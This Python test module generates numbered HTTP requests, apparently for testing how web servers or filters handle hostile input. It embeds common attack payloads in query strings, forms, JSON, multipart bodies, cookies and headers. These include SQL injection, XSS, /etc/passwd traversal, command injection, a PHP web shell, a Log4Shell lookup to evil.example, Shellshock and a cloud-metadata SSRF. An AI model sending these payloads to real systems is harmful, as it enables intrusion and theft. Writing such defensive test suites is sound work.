"""Requests for the servers under test: pages, forms, JSON, and attacks in each place."""

import json
import urllib.parse

ATTACKS = [
    "1' OR '1'='1", "1 UNION SELECT username, password FROM users--", "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>", "../../../../etc/passwd", "; cat /etc/passwd", "|id", "$(whoami)",
    "php://input", "<?php system($_GET['c']); ?>", "${jndi:ldap://evil.example/a}", "%00", "\r\nSet-Cookie: a=b",
    "javascript:alert(1)", "sleep(5)#", "admin'--", "() { :;}; echo x", "http://169.254.169.254/latest",
    "{{7*7}}", "/bin/bash -c ls",
]
HARMLESS = ["hello", "a b c", "42", "O'Brien", "caf\u00e9", "name@example.com", "2024-01-01", "1 < 2", "50%", "x=y&z"]


def message(number, method, target, headers=(), body=b""):
    lines = [f"{method} {target} HTTP/1.1", "Host: www.example.com", f"X-Number: {number}",
             "User-Agent: Mozilla/5.0 (X11; Linux x86_64)", "Accept: text/html", "Connection: close"]
    lines += [f"{name}: {value}" for name, value in headers]
    if body or method == "POST":
        lines.append(f"Content-Length: {len(body)}")
    return "\r\n".join(lines).encode("latin-1", "replace") + b"\r\n\r\n" + body


def form(values):
    return ("Content-Type", "application/x-www-form-urlencoded"), urllib.parse.urlencode(values).encode()


def shapes(value):
    """A value in each place that a request has for it: method, target, headers, body."""
    quoted = urllib.parse.quote(value, safe="")
    boundary = "x-boundary"
    part = (f'--{boundary}\r\nContent-Disposition: form-data; name="note"\r\n\r\n{value}\r\n'
            f'--{boundary}\r\nContent-Disposition: form-data; name="file"; filename="a.txt"\r\n'
            f"Content-Type: text/plain\r\n\r\n{value}\r\n--{boundary}--\r\n").encode()
    plain = value.replace("\r", " ").replace("\n", " ")
    yield "GET", f"/?q={quoted}", [], b""
    yield "GET", f"/page.html?page={quoted}&sort=up", [], b""
    header, body = form({"comment": value, "name": "x"})
    yield "POST", "/", [header], body
    yield "POST", "/", [("Content-Type", "application/json")], json.dumps({"a": [value], "b": 1}).encode()
    yield "POST", "/", [("Content-Type", f"multipart/form-data; boundary={boundary}")], part
    yield "GET", "/", [("Cookie", f"session={quoted}"), ("Referer", f"http://www.example.com/{plain}")], b""
    yield "GET", f"/own?q={quoted}", [], b""
    yield "GET", f"/detects?q={quoted}", [], b""
    yield "GET", f"/answer/page?q={quoted}", [], b""
    yield "GET", f"/id?q={quoted}", [], b""
    header, body = form({"text": value * 200})
    yield "POST", "/page.html", [header], body
    yield "GET", f"/off?q={quoted}", [], b""


def special():
    header, _ = form({})
    yield "GET", "/answer/secret", [], b""
    yield "GET", "/answer/leak", [], b""
    yield "GET", "/own?own=deny", [], b""
    yield "HEAD", "/", [], b""
    yield "OPTIONS", "/", [], b""
    yield "PUT", "/a", [], b"x"
    yield "TRACE", "/", [], b""
    yield "GET", "/nothing-here", [], b""
    yield "GET", "/.git/config", [], b""
    yield "GET", "/a.bak", [], b""
    yield "GET", "/%2e%2e/%2e%2e/etc/passwd", [], b""
    yield "GET", "//double", [], b""
    yield "GET", "/?" + "&".join(f"a{n}={n}" for n in range(300)), [], b""
    yield "GET", "/", [("User-Agent", "sqlmap/1.0")], b""
    yield "GET", "/", [("Range", "bytes=0-1,2-3,4-5,6-7,8-9,10-11")], b""
    yield "POST", "/", [header], b"a=" + b"b" * 120_000
    yield "POST", "/", [header], b"a=%zz&%=1&=&&"
    yield "POST", "/", [("Content-Type", "application/json")], b'{"a": '
    yield "POST", "/", [("Content-Type", "text/xml")], b"<a><b>x</b></a>"
    yield "POST", "/", [("Content-Type", "multipart/form-data; boundary=a")], b"--a\r\nbroken"


def requests(count=400):
    """Numbered; the same each time."""
    all_shapes = [shape for value in ATTACKS + HARMLESS for shape in shapes(value)]
    chosen = list(special())
    step = len(all_shapes) / (count - len(chosen))
    chosen += [all_shapes[int(n * step)] if step >= 1 else all_shapes[n % len(all_shapes)]
               for n in range(count - len(chosen))]
    return [message(number, *shape) for number, shape in enumerate(chosen)]
